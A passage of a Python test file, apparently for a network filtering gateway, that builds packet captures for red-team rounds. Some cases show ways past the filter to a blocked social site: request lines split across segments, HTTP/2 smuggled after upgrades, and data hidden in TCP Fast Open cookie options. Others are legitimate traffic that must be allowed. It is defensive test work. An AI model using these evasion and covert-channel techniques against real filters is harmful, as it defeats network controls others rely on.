    older than a fraction of a second; the pool is never full (most of it is free)."""
    cap = Capture()
    hl = hello(n + "h")
    fl = server_hello_flight(n + "h")
    dl = []
    for p in ports:
        t = ETcp(cap, src, p, E2M, 443, isn=(p * 13) & M32, rtt_us=20000)
        t.handshake(gap=100)
        t.data(True, hl, gap=100)
        t.data(False, fl, gap=100)
        t.data(True, CCS + tls_appdata(n + "fin", 53), gap=100)
        t.data(True, marked_record(passm(n) + b"rq", n + "rq", 120), gap=100)
        dl.append(t)
    k = 0
    for batch in range(52):
        for t in dl:
            # the client acknowledges the last record; the server's next one follows
            if batch:
                t.raw(True, "A", gap=40)
            if busy or not batch:
                rec = tls_appdata(n + "d%d" % k, 1200)
                k += 1
                t.raw(False, "PA", rec, gap=40)
                t.sseq += len(rec)
        for j in range(50):
            kk = batch * 50 + j
            f = ETcp(cap, "10.10.%d.%d" % (100 + kk // 250, 1 + kk % 250), 55199, E2M, 443,
                     isn=(1300000 + 7919 * kk) & M32, rtt_us=200)
            f.handshake(gap=60)
            f.data(True, hl, gap=60)
            f.data(False, fl, gap=60)
            f.data(True, CCS + tls_appdata(n + "ffin", 53), gap=60)
            f.data(False, tls_appdata(n + "frec", 300), gap=60)
            f.close(gap=60)
    for t in dl:
        t.raw(True, "A", gap=40)
        t.data(False, marked_record(passm(n) + b"srv", n + "last", 500))
        t.data(True, marked_record(passm(n) + b"cl", n + "clast", 100))
        t.close()
    return cap, {"pass": [passm(n) + b"rq", passm(n) + b"srv", passm(n) + b"cl"]}


@case
def case_rt16_hlog_parallel_dl_ok(n):
    """(Red team round 16) Must-allow (false block, no attack): one e2m host downloads
    with 40 parallel TLS connections to E2M (a sync client, aria2c -x, a terminal server
    whose users start at 09:00): 40 header logs, consecutive in its worker's pool, each
    busy (a server record always in flight, acknowledged within the round trip). Other
    hosts' short sessions (2600 in all) walk the pool's pointer round. The pool is mostly
    free, but judge_hlog_take looks at HLOG_LOOK (32) slots from the pointer only: 32 busy
    logs of one address over HLOG_HEAVY (32) there, and the next short session of another
    host takes one of them back and refuses its flow (exception:classifier_alloc), eight
    times in a row. DESIGN 8 bounds a holder by its share only when no log is free; a
    download acknowledged in time breaches nothing (4.2). Must allow."""
    return _rt16_hlog_parallel(n, "10.10.62.1", range(55100, 55140))


@case
def case_rt16_hlog_parallel_idle_ok(n):
    """(Red team round 16) Control for rt16_hlog_parallel_dl_ok: the same 40 connections
    and 2600 short sessions, but the downloads pause (each record acknowledged, none in
    flight) while the pointer passes: the host's logs are idle, given up and taken again
    at their flows' next headers. Must allow."""
    return _rt16_hlog_parallel(n, "10.10.62.2", range(55102, 55142), busy=False)


@case
def case_rt16_rlog_proxy_burst_ok(n):
    """(Red team round 16) Must-allow (false block, no attack): an office forward proxy
    (or a NAT of a floor of desks), one address, sends 40 GETs for www.example.org on 40
    kept connections to a far server (300 ms away: its ACKs come with the answers). In
    those 300 ms 600 other office hosts each send one GET to a near server, answered and
    acknowledged at once (a busy office: 2000 requests a second). Each request takes a
    request log; the pointer of each worker's 256-log pool comes round to the proxy's 40
    logs, all unacknowledged (young: well under RLOG_STALE): judge_rlog_take sees 32 of
    one address over RLOG_HEAVY (8) and takes them back one by one, marking their flows
    FLOW_HW_LOST (refused at their next segment), while the pool has logs free beyond
    its 32-slot look. Must allow."""
    cap = Capture()
    px = []
    for p in range(55103, 55143):
        t = ETcp(cap, "10.20.62.1", p, SOC, 80, isn=p * 7, rtt_us=300000)
        t.handshake(gap=200)
        px.append(t)
    for t in px:
        h = b"GET /a/%d HTTP/1.1\r\nHost: www.example.org\r\nX-Mark: %s\r\nVia: 1.1 proxy\r\n\r\n" % (t.cport, passm(n) + b"a")
        t.raw(True, "PA", h, gap=100)
        t.cseq += len(h)
    for k in range(600):
        u = ETcp(cap, "10.20.%d.%d" % (100 + k // 250, 1 + k % 250), 55199, SOC, 80,
                 isn=(2300000 + 7919 * k) & M32, rtt_us=200)
        u.handshake(gap=60)
        u.data(True, b"GET /n%d HTTP/1.1\r\nHost: www.example.org\r\n\r\n" % k, gap=60)
        u.data(False, b"HTTP/1.1 204 No Content\r\n\r\n", gap=60)
        u.close(gap=60)
    for t in px:
        body = passm(n) + b"b" + prand(n + str(t.cport), 80)
        resp = b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body
        t.raw(False, "PA", resp, gap=100)
        t.sseq += len(resp)
    for t in px:
        t.raw(True, "A", gap=100)
        t.data(True, b"GET /b HTTP/1.1\r\nHost: www.example.org\r\nX-Mark: " + passm(n) + b"c\r\n\r\n")
        t.data(False, b"HTTP/1.1 204 No Content\r\n\r\n")
        t.close()
    return cap, {"pass": [passm(n) + b"a", passm(n) + b"b", passm(n) + b"c"]}


def _rt16_cut_first(n, port, first, rest, answer_vk=True):
    cap = Capture()
    t = ETcp(cap, O1, port, SOC, 80, isn=port * 7, rtt_us=20000)
    t.handshake()
    t.data(True, first)
    t.data(True, rest)
    if answer_vk:
        _vk_answer(t, n)
    else:
        _ok_answer(t, n)
    t.close()
    return cap


@case
def case_rt16_cut_opaque_target_vk(n):
    """(Red team round 16) Office: the first payload "GET h:m" alone, then
    ".vk.com/feed HTTP/1.1", Host m.vk.com. Go's net/http reads the target with
    url.ParseRequestURI: scheme "h", opaque "m.vk.com/feed" (an absolute URI without
    "//", RFC 3986 4.3), and takes the Host field as the request's host: served for
    m.vk.com. hs_target_may_start wants "/", "*" or "scheme://" after a letter run, so
    "h:m" starts no request line and the flow is not read as HTTP. Must drop (social)."""
    cap = _rt16_cut_first(n, 55150, b"GET h:m",
                          b".vk.com/feed HTTP/1.1\r\nHost: m.vk.com\r\nX-Mark: " + leak(n) + b"\r\n\r\n")
    return cap, {"leak": [leak(n)]}


@case
def case_rt16_cut_hostport_target_vk(n):
    """(Red team round 16) Office: the first payload "GET m.vk.com:8" alone, then
    "0/feed HTTP/1.1", Host m.vk.com. Go reads "m.vk.com:80/feed" as scheme "m.vk.com"
    (letters, digits, '.', '+', '-'), opaque "80/feed", and serves by Host. The cut
    leaves ":8" where hs_target_may_start wants "://". Must drop (social)."""
    cap = _rt16_cut_first(n, 55151, b"GET m.vk.com:8",
                          b"0/feed HTTP/1.1\r\nHost: m.vk.com\r\nX-Mark: " + leak(n) + b"\r\n\r\n")
    return cap, {"leak": [leak(n)]}


@case
def case_rt16_cut_opaque_m2_vk(n):
    """(Red team round 16) The same as rt16_cut_opaque_target_vk with the token method
    "M2" (nDPI knows no such method, so only aduana's reader could see the request):
    "M2 x:y" alone, then "z HTTP/1.1", Host m.vk.com (Go serves any token method). Must
    drop (social)."""
    cap = _rt16_cut_first(n, 55152, b"M2 x:y",
                          b"z HTTP/1.1\r\nHost: m.vk.com\r\nX-Mark: " + leak(n) + b"\r\n\r\n")
    return cap, {"leak": [leak(n)]}


@case
def case_rt16_cut_opaque_ok(n):
    """(Red team round 16) Must-allow twin: "GET h:w" alone, then "ww.example.org/
    HTTP/1.1", Host www.example.org."""
    cap = _rt16_cut_first(n, 55153, b"GET h:w",
                          b"ww.example.org/ HTTP/1.1\r\nHost: www.example.org\r\nX-Mark: " + passm(n)
                          + b"\r\n\r\n", answer_vk=False)
    return cap, {"pass": [passm(n)]}


def _rt16_declined(n, port, up_head, first, rest, mark):
    cap = Capture()
    t = ETcp(cap, O1, port, SOC, 80, isn=port * 7, rtt_us=20000)
    t.handshake()
    t.data(True, up_head)
    _ok_answer(t, n + "a", mark=False)
    t.data(True, first)
    t.data(True, rest)
    if mark == "vk":
        _vk_answer(t, n)
    else:
        _ok_answer(t, n)
    t.close()
    return cap


_RT16_WS = (b"GET /chat HTTP/1.1\r\nHost: www.example.org\r\nUpgrade: websocket\r\n"
            b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
            b"Sec-WebSocket-Version: 13\r\n\r\n")


@case
def case_rt16_ws_declined_cut_vk(n):
    """(Red team round 16) A WebSocket upgrade that nginx ignores (200, keep-alive), then
    the next request cut after its first byte: "G", then "ET /feed HTTP/1.1", Host
    m.vk.com. After an upgrade's head, bytes that start no request are a tunnel and go
    unread (judge_req_common: off); a piece that is only the start of a request line
    must not count as such. nginx joins the line and serves m.vk.com. Must drop."""
    cap = _rt16_declined(n, 55154, _RT16_WS, b"G",
                         b"ET /feed HTTP/1.1\r\nHost: m.vk.com\r\nX-Mark: " + leak(n) + b"\r\n\r\n", "vk")
    return cap, {"leak": [leak(n)]}


@case
def case_rt16_h2c_declined_cut_vk(n):
    """(Red team round 16) Upgrade: h2c declined by nginx (200 in HTTP/1.1), then the
    next request's first line cut: "GET /feed HT", then "TP/1.1", Host m.vk.com. Must
    drop (social)."""
    cap = _rt16_declined(n, 55155, b"GET / HTTP/1.1\r\nHost: www.example.org\r\n" + H2C_UP + b"\r\n",
                         b"GET /feed HT",
                         b"TP/1.1\r\nHost: m.vk.com\r\nX-Mark: " + leak(n) + b"\r\n\r\n", "vk")
    return cap, {"leak": [leak(n)]}


@case
def case_rt16_ws_declined_cut_ok(n):
    """(Red team round 16) Must-allow: the WebSocket upgrade ignored (200), then the
    browser's next GET for www.example.org cut by the segment inside its headers (a
    long cookie)."""
    req = (b"GET /next HTTP/1.1\r\nHost: www.example.org\r\nCookie: s=" + b"c" * 1500
           + b"\r\nX-Mark: " + passm(n) + b"\r\n\r\n")
    cap = _rt16_declined(n, 55156, _RT16_WS, req[:1448], req[1448:], "ok")
    return cap, {"pass": [passm(n)]}


def _rt16_up_conn(n, port, head, pre=None):
    cap = Capture()
    t = ETcp(cap, O1, port, SOC, 80, isn=port * 7, rtt_us=20000)
    t.handshake()
    t.data(True, head)
    if pre:
        pre(t)
    t.data(False, _RT13_101 + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88") + h2_frame(0, 1, 1, b"ok"))
    return cap, t


def _rt16_up_stream3(n, port, blk):
    """An h2c upgrade of a GET for www.example.org taken (101), then the preface,
    SETTINGS and HEADERS on stream 3 with the header block blk; the server's answer
    carries the marker."""
    cap, t = _rt16_up_conn(n, port, b"GET / HTTP/1.1\r\nHost: www.example.org\r\n" + H2C_UP + b"\r\n")
    t.data(True, _RT13_PREFACE + h2_frame(4, 0, 0, b"") + h2_frame(1, 5, 3, blk))
    t.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, leak(n)))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt16_h2c_up_hostonly_vk(n):
    """(Red team round 16) After an upgrade answered 101 (a fresh reader,
    judge_h2w_upgrade), HEADERS on stream 3 with no :authority and a literal "host:
    m.vk.com" field (RFC 9113 8.3.1; Go's http2 server and nginx route by Host then).
    rt8a_h2pk_late_hostonly_vk held this for prior knowledge only. Must drop."""
    blk = b"\x82\x86\x84" + b"\x00\x04host\x08m.vk.com" + b"\x00\x06x-mark" + bytes([len(leak(n))]) + leak(n)
    return _rt16_up_stream3(n, 55157, blk)


@case
def case_rt16_h2c_up_host_idx_huff_vk(n):
    """(Red team round 16) After a 101: HEADERS on stream 3, no :authority, "host" by
    its static-table name (index 38, literal without indexing) with a Huffman-coded
    value m.vk.com. Must drop (social)."""
    hv = _rt8a_huff(b"m.vk.com")
    blk = (b"\x82\x86\x84" + b"\x0f\x17" + bytes([0x80 | len(hv)]) + hv
           + b"\x00\x06x-mark" + bytes([len(leak(n))]) + leak(n))
    return _rt16_up_stream3(n, 55158, blk)


@case
def case_rt16_h2c_up_auth_host_vk(n):
    """(Red team round 16) After a 101: HEADERS on stream 3 with :authority
    www.example.org and a "host: m.vk.com" field. RFC 9113 8.3.1 says a server SHOULD
    refuse it; Go's http2 server takes :authority, but a server (or an h2c to HTTP/1
    gateway: nghttpx, Envoy with host rewriting off) that forwards the Host field reads
    m.vk.com. One block read two ways (DESIGN 8: refused). Must drop."""
    blk = (b"\x82\x86\x84" + b"\x01\x0fwww.example.org" + b"\x00\x04host\x08m.vk.com"
           + b"\x00\x06x-mark" + bytes([len(leak(n))]) + leak(n))
    return _rt16_up_stream3(n, 55159, blk)


@case
def case_rt16_h2c_pk_after_get_vk(n):
    """(Red team round 16) A plain GET for www.example.org (200, keep-alive), then, on
    the same connection and without any upgrade, the HTTP/2 preface, SETTINGS and HEADERS
    on stream 1 for m.vk.com. Go's h2c handler (x/net/http2/h2c) reads "PRI * HTTP/2.0"
    with no fields as an HTTP/1 request at any point of a kept connection, hijacks it and
    serves HTTP/2 (prior knowledge, RFC 9113 3.3). Must drop (social)."""
    cap = Capture()
    t = ETcp(cap, O1, 55160, SOC, 80, isn=55160 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, http_req(b"www.example.org", b"x"))
    _ok_answer(t, n + "a", mark=False)
    t.data(True, _RT13_PREFACE + h2_frame(4, 0, 0, b"") + _rt12_h2_headers(1, b"m.vk.com", leak(n)))
    t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 1, b"\x88")
           + h2_frame(0, 1, 1, leak(n)))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt16_h2c_chunked_up_vk(n):
    """(Red team round 16) A POST with Transfer-Encoding: chunked asking Upgrade: h2c
    (Apache mod_http2 reads the body before it switches, RFC 7540 3.2); 101 after the
    body's last chunk; then the preface and HEADERS on stream 3 for m.vk.com. Must drop."""
    cap = Capture()
    t = ETcp(cap, O1, 55161, SOC, 80, isn=55161 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"POST /up HTTP/1.1\r\nHost: www.example.org\r\nTransfer-Encoding: chunked\r\n" + H2C_UP
           + b"\r\n")
    t.data(True, b"5\r\nhello\r\n")
    t.data(True, b"0\r\n\r\n")
    t.data(False, _RT13_101 + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88"))
    t.data(True, _RT13_PREFACE + h2_frame(4, 0, 0, b"") + _rt12_h2_headers(3, b"m.vk.com", leak(n)))
    t.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, leak(n)))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt16_h2c_100_101_ok(n):
    """(Red team round 16) Must-allow: curl --http2 -d @file on http:// (POST with
    Expect: 100-continue and Upgrade: h2c): the server's 100 Continue, the body, the
    101, then the preface and a request on stream 3 for www.example.org."""
    cap = Capture()
    t = ETcp(cap, O1, 55162, SOC, 80, isn=55162 * 7, rtt_us=20000)
    t.handshake()
    t.data(True, b"POST /up HTTP/1.1\r\nHost: www.example.org\r\nContent-Length: 2000\r\n"
           b"Expect: 100-continue\r\n" + H2C_UP + b"\r\n")
    t.data(False, b"HTTP/1.1 100 Continue\r\n\r\n")
    t.data(True, prand(n + "body", 1448))
    t.data(True, prand(n + "body2", 552))
    t.data(False, _RT13_101 + h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88") + h2_frame(0, 1, 1, b"ok"))
    t.data(True, _RT13_PREFACE + h2_frame(4, 0, 0, b"") + _rt12_h2_headers(3, b"www.example.org", b"x"))
    t.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, passm(n)))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt16_h2c_up_lower_ok(n):
    """(Red team round 16) Must-allow: an upgrade whose head has lower-case field names
    and values (Python h11/httpx-style: "upgrade: h2c", "connection: upgrade,
    http2-settings", "http2-settings: ..."), answered 101, a request on stream 3 for
    www.example.org (Go's h2c handler matches tokens case-insensitively)."""
    cap, t = _rt16_up_conn(n, 55163, b"GET / HTTP/1.1\r\nhost: www.example.org\r\n"
                           b"connection: upgrade, http2-settings\r\nupgrade: h2c\r\n"
                           b"http2-settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n\r\n")
    t.data(True, _RT13_PREFACE + h2_frame(4, 0, 0, b"") + _rt12_h2_headers(3, b"www.example.org", b"x"))
    t.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, passm(n)))
    t.close()
    return cap, {"pass": [passm(n)]}


@case
def case_rt16_h2c_up_pad_cont_vk(n):
    """(Red team round 16) After a 101: HEADERS on stream 3 with PADDED and PRIORITY and
    without END_HEADERS whose fragment is empty (padding only), then a CONTINUATION with
    the whole block for m.vk.com, the frame headers cut across segments. Must drop."""
    cap, t = _rt16_up_conn(n, 55164, b"GET / HTTP/1.1\r\nHost: www.example.org\r\n" + H2C_UP + b"\r\n")
    blk = (b"\x82\x86\x84" + b"\x01\x08m.vk.com" + b"\x00\x06x-mark" + bytes([len(leak(n))]) + leak(n))
    hp = bytes([9]) + struct.pack("!IB", 0, 15) + b"\x00" * 9
    f1 = h2_frame(1, 0x08 | 0x20 | 0x01, 3, hp)
    f2 = h2_frame(9, 4, 3, blk)
    data = _RT13_PREFACE + h2_frame(4, 0, 0, b"") + f1 + f2
    cut1 = len(_RT13_PREFACE) + 9 + 4
    cut2 = len(data) - len(f2) + 6
    t.data(True, data[:cut1])
    t.data(True, data[cut1:cut2])
    t.data(True, data[cut2:])
    t.data(False, h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, leak(n)))
    t.close()
    return cap, {"leak": [leak(n)]}


@case
def case_rt16_syn_retx_fallback_ok(n):
    """(Red team round 16) Must-allow: a Linux client with MPTCP and Fast Open on whose
    first two SYNs (MP_CAPABLE, cookie request) get no answer; its third SYN falls back to
    plain TCP (net.mptcp.syn_retrans_before_tcp_fallback, TFO blackhole detection) with a
    later timestamp; the server answers that one."""
    def so(i):
        base = [("MSS", 1460), ("SAckOK", b""), ("Timestamp", (91000 + 1000 * i, 0)), ("NOP", None),
                ("WScale", 7)]
        return base + ([(30, b"\x01\x81"), (34, b""), ("NOP", None), ("NOP", None)] if i < 2 else [])
    return _rt15_syn_session(
        n, S1, 55165, E2M, so,
        [("MSS", 1460), ("SAckOK", b""), ("Timestamp", (4400, 93000)), ("NOP", None), ("WScale", 7)],
        ts=(93000, 4400), retx=3)


@case
def case_rt16_synack_two_cookies(n):
    """(Red team round 16) A cookie request on the e2m SYN (kind 34); the SYN-ACK from
    outside carries a 16-byte cookie in kind 34 and another in the experimental kind 254
    (ExID F989): a Linux client takes the last one it parses. Both must go, or the client
    keeps one and its next SYN carries data (refused). The cookies carry the marker.
    Either verdict, no marker through."""
    cap = Capture()
    t = ETcp(cap, S1, 55166, E2M, 443, isn=55166 * 11, rtt_us=20000)
    lk = leak(n)
    t.raw(True, "S", options=[("MSS", 1460), ("SAckOK", b""), ("NOP", None), ("WScale", 7), (34, b""),
                              ("NOP", None), ("NOP", None)])
    t.cseq += 1
    t.raw(False, "SA", options=[("MSS", 1460), ("NOP", None), ("WScale", 7), (34, lk[:16]),
                                (254, b"\xf9\x89" + lk[-16:])])
    t.sseq += 1
    t.raw(True, "A")
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    t.data(True, CCS + tls_appdata(n + "fin", 53))
    t.close()
    return cap, {"leak": [lk[:16], lk[-16:]]}


@case
def case_rt16_syn_cookie_after_eol(n):
    """(Red team round 16) An e2m SYN whose option list ends with EOL, followed by a kind
    34 option carrying 16 bytes (the marker) in the rest of the header: every stack stops
    at EOL (Linux tcp_parse_options returns), so it is no option but 18 bytes of anything
    on the wire. Sent twice. Either verdict, no marker through."""
    cap = Capture()
    t = ETcp(cap, S1, 55167, E2M, 443, isn=55167 * 11, rtt_us=20000)
    lk = leak(n)[:16]
    for i in range(2):
        t.raw(True, "S", options=[("MSS", 1460), ("NOP", None), ("WScale", 7), ("SAckOK", b""),
                                  ("EOL", None), (34, lk), ("EOL", None)], gap=1000000 if i else None)
    _tls_after_syns(t, n)
    return cap, {"leak": [lk]}


@case
def case_rt16_simopen_synack_inside(n):
    """(Red team round 16) Simultaneous open on an e2m flow: the client's SYN, a SYN
    without ACK from outside (the server's side of a simultaneous open), then the client's
    SYN-ACK from inside with a 16-byte Fast Open cookie (the marker) and a timestamp echo
    of 4 bytes of anything, then a session. The inside SYN-ACK is normalised (inside),
    its echo is not (ACK set). Either verdict, no marker through."""
    cap = Capture()
    t = ETcp(cap, S1, 55168, E2M, 443, isn=55168 * 11, rtt_us=20000)
    lk = leak(n)[:16]
    t.raw(True, "S", options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (100, 0)), ("NOP", None),
                              ("WScale", 7)])
    t.raw(False, "S", options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (200, 0)), ("NOP", None),
                               ("WScale", 7)])
    t.raw(True, "SA", ack=t.sseq + 1, options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (101, 200)),
                                               ("NOP", None), ("WScale", 7), (34, lk)])
    t.cseq += 1
    t.sseq += 1
    t.raw(False, "SA", seq=t.sseq - 1, options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (201, 101)), ("NOP", None),
                                ("WScale", 7)])
    t.data(True, hello(n))
    t.data(False, server_hello_flight(n))
    t.close()
    return cap, {"leak": [lk]}


# ------------------------------------------------ red team round 17: DNS query records, link services


def rt17_name(name):
    return b"".join(bytes([len(l)]) + l.encode() for l in name.split(".") if l) + b"\x00"


def rt17_opt(opts, udp=1232, do=False, owner=b"\x00"):
    """An OPT record (RFC 6891): opts [(code, bytes)]."""
    rd = b"".join(struct.pack("!HH", c, len(v)) + v for c, v in opts)
    return owner + struct.pack("!HHIH", 41, udp, 0x8000 if do else 0, len(rd)) + rd


def rt17_tsig(key, qid, mac_len, seed, alg=b"\x0bhmac-sha256\x00", owner=None):
    rd = (alg + struct.pack("!HIH", 0, 1767225600, 300) + struct.pack("!H", mac_len) + prand(seed, mac_len)
          + struct.pack("!HHH", qid, 0, 0))
    return (owner if owner is not None else rt17_name(key)) + struct.pack("!HHIH", 250, 255, 0, len(rd)) + rd


def rt17_q(qid, name, qtype, add, flags=0x0100):
    return (struct.pack("!HHHHHH", qid, flags, 1, 0, 0, len(add)) + rt17_name(name)
            + struct.pack("!HH", qtype, 1) + b"".join(add))


def rt17_a(qid, name, qtype=1):
    return bytes(DNS(id=qid, qr=1, rd=1, ra=1, qd=DNSQR(qname=name, qtype=qtype),
                     an=DNSRR(rrname=name, type="A", ttl=300, rdata=E2M) if qtype == 1 else None))


@case
def case_rt17_dns_tcp_pipelined_ok(n):
    """(Red team round 17) Must-allow: a stub (glibc with `options use-vc`, or unbound
    forwarding over TCP) pipelines three queries in one segment to the resolver: an A
    query with EDNS (a client cookie, a /24 client subnet, DO), an AAAA query with OPT
    and a TSIG by HMAC-SHA512 (93 bytes of data), and a third whose OPT record is cut by
    the segment's end inside its fixed part; the rest follows. All are what a stub sends
    (dns.c, dns_stdq_type_ok: OPT and TSIG, 128 bytes each at most); the resolver
    answers each."""
    cap = Capture()
    t = ETcp(cap, S1, 55300, RESOLVER, 53, isn=55300, rtt_us=2000)
    t.handshake()
    ecs = struct.pack("!HBB", 1, 24, 0) + bytes([10, 10, 1])
    q1 = rt17_q(0x5301, E2M_NAME, 1, [rt17_opt([(10, prand(n + "ck", 8)), (8, ecs)], do=True)])
    q2 = rt17_q(0x5302, E2M_NAME, 28, [rt17_opt([(10, prand(n + "ck2", 8))]),
                                       rt17_tsig("key.customs.example", 0x5302, 64, n + "m2",
                                                 alg=b"\x0bhmac-sha512\x00")])
    q3 = rt17_q(0x5303, "www." + E2M_NAME, 1, [rt17_opt([(10, prand(n + "ck3", 8))])])
    wire = b"".join(struct.pack("!H", len(q)) + q for q in (q1, q2, q3))
    cut = len(wire) - 9
    t.data(True, wire[:cut])
    t.data(True, wire[cut:])
    for qid, name, qt in ((0x5301, E2M_NAME, 1), (0x5302, E2M_NAME, 28), (0x5303, "www." + E2M_NAME, 1)):
        a = rt17_a(qid, name, qt)
        t.data(False, struct.pack("!H", len(a)) + a)
    # 11 s later: a FIN sooner is held while an answer of a learned name can still be
    # contradicted (dns_rst_held, by design: rt7_dns_fin_forged)
    t.close(gap=11000000)
    return cap, {"pass": [q1, q2, q3[:20]]}


@case
def case_rt17_dns_tcp_bytecut_ok(n):
    """(Red team round 17) Must-allow: one TSIG-signed query over TCP (`dig +tcp +cookie
    +nsid +expire +keepalive -y hmac-sha256:...`: OPT with a cookie, NSID, EXPIRE and
    TCP keepalive options, then the TSIG with a 32-byte MAC), its length prefix and header
    a byte a segment, the question whole, the OPT record's first 16 bytes a byte a
    segment, the rest whole (a segment boundary at every byte of the header and the
    OPT's fixed part: the streaming reader dns_wire_feed keeps its place in
    DWS_STDQ's count). A receiver joins the bytes; the query is what dig sends."""
    cap = Capture()
    t = ETcp(cap, S1, 55301, RESOLVER, 53, isn=55301, rtt_us=2000)
    t.handshake()
    q = rt17_q(0x5311, E2M_NAME, 1, [rt17_opt([(10, prand(n + "ck", 8)), (3, b""), (9, b""), (11, b"")]),
                                     rt17_tsig("key.customs.example", 0x5311, 32, n + "mac")])
    wire = struct.pack("!H", len(q)) + q
    rr = len(wire) - len(q) + 12 + len(rt17_name(E2M_NAME)) + 4
    segments(t, wire[:14], 1)
    t.data(True, wire[14:rr])
    segments(t, wire[rr:rr + 16], 1)
    t.data(True, wire[rr + 16:])
    a = rt17_a(0x5311, E2M_NAME)
    t.data(False, struct.pack("!H", len(a)) + a)
    t.close()
    return cap, {"pass": [a]}


@case
def case_rt17_dns_tcp_tkey_cut_ok(n):
    """(Red team round 17) Must-allow: dns_tkey_gss_ok's Windows GSS-TSIG key exchange with
    the TKEY query's length and header a byte a segment, the question (its type TKEY,
    which turns DWS_STDQ into DWS_STDQ_TK) whole, the last 20 bytes before the token
    (the TKEY record's fixed part) a byte a segment, the
    1400-byte token in MSS-sized segments; then the signed UPDATE. RFC 3645 lets TCP cut
    it anywhere."""
    cap = Capture()
    t = ETcp(cap, S1, 55302, RESOLVER, 53, isn=55302, rtt_us=2000)
    t.handshake()
    key = "1734-ms-7.ws-10.e2m.customs.example"
    alg = b"\x08gss-tsig\x00"
    tok = alg + struct.pack("!IIHHH", 1767225600, 1767312000, 3, 0, 1400) + prand(n + "tok", 1400) + b"\x00\x00"
    q = (struct.pack("!HHHHHH", 0x7b01, 0, 1, 0, 0, 1) + rt17_name(key) + struct.pack("!HH", 249, 255)
         + rt8b_rr(key, 249, 255, 0, tok))
    wire = struct.pack("!H", len(q)) + q
    head = 2 + 12 + 2 * len(rt17_name(key)) + 4 + 10 + len(alg) + 16
    segments(t, wire[:14], 1)
    t.data(True, wire[14:head - 20])
    segments(t, wire[head - 20:head], 1)
    segments(t, wire[head:], 1200)
    a = (struct.pack("!HHHHHH", 0x7b01, 0x8400, 1, 1, 0, 0) + rt17_name(key) + struct.pack("!HH", 249, 255)
         + rt8b_rr(key, 249, 255, 0, alg + struct.pack("!IIHHH", 1767225600, 1767312000, 3, 0, 4) + b"abcd\x00\x00"))
    t.data(False, struct.pack("!H", len(a)) + a)
    t.close()
    return cap, {"pass": [wire[head:head + 200], a]}


@case
def case_rt17_dns_forwarder_opts_ok(n):
    """(Red team round 17) Must-allow: what forwarders and tools put in a query's OPT record
    over UDP: dnsmasq with --add-subnet=32,128 --add-mac --add-cpe-id=cpe-0042-office
    (ECS, 65001 the MAC, 65074 the CPE id) and a full cookie (client 8 and server 16
    bytes); dig +nsid +expire +keepalive +cookie; BIND's trust-anchor telemetry (a
    _ta-4f66 query of type NULL) with the EDNS key-tag option (RFC 8145, 14). About 60
    bytes of OPT data: under 128."""
    cap = Capture()
    mac = bytes.fromhex("52540012ab34")
    ecs = struct.pack("!HBB", 1, 32, 0) + bytes([10, 10, 1, 10])
    qs = [
        rt17_q(0x5321, E2M_NAME, 1, [rt17_opt([(8, ecs), (65001, mac), (65074, b"cpe-0042-office"),
                                              (10, prand(n + "c", 24))], udp=1232, do=True)]),
        rt17_q(0x5322, E2M_NAME, 1, [rt17_opt([(3, b""), (9, b""), (11, b""), (10, prand(n + "d", 8))],
                                              udp=1232)]),
        rt17_q(0x5323, "_ta-4f66", 10, [rt17_opt([(14, struct.pack("!HH", 20326, 38696))], udp=1232, do=True)]),
    ]
    for i, q in enumerate(qs):
        udp(cap, S1, 55303, RESOLVER, 53, q)
        name = "_ta-4f66" if i == 2 else E2M_NAME
        a = bytes(DNS(id=0x5321 + i, qr=1, rd=1, ra=1, rcode=3 if i == 2 else 0,
                      qd=DNSQR(qname=name, qtype=10 if i == 2 else 1),
                      an=None if i == 2 else DNSRR(rrname=name, type="A", ttl=300, rdata=E2M)))
        udp(cap, RESOLVER, 53, S1, 55303, a, gap=2000)
    return cap, {"pass": qs}


@case
def case_rt17_dns_padding_ok(n):
    """(Red team round 17) Must-allow: `dig +cookie +padding=128` (and kdig +padding) for a
    long name over UDP: the query is padded to a multiple of 128 bytes (RFC 8467's
    block size for queries; dig pads over any transport): a 92-byte name on the wire
    makes the unpadded query 135 bytes, padded to 256, the OPT record's data 4 + 8 + 4 +
    121 = 137 bytes of cookie and zeros. The resolver answers it."""
    cap = Capture()
    name = "a" * 40 + "." + "b" * 29 + "." + "img." + E2M_NAME
    q0 = rt17_q(0x5331, name, 1, [rt17_opt([(10, prand(n + "c", 8)), (12, b"")])])
    pad = (256 - len(q0) % 256) % 256 if len(q0) > 128 else 128 - len(q0)
    q = rt17_q(0x5331, name, 1, [rt17_opt([(10, prand(n + "c", 8)), (12, b"\x00" * pad)])])
    assert len(q) == 256 and len(rt17_opt([(10, b"x" * 8), (12, b"\x00" * pad)])) - 11 > 128
    udp(cap, S1, 55304, RESOLVER, 53, q)
    a = rt17_a(0x5331, name)
    udp(cap, RESOLVER, 53, S1, 55304, a, gap=2000)
    return cap, {"pass": [q]}


def padded_q(qid, name, pad_to, seed, fill=b"\x00"):
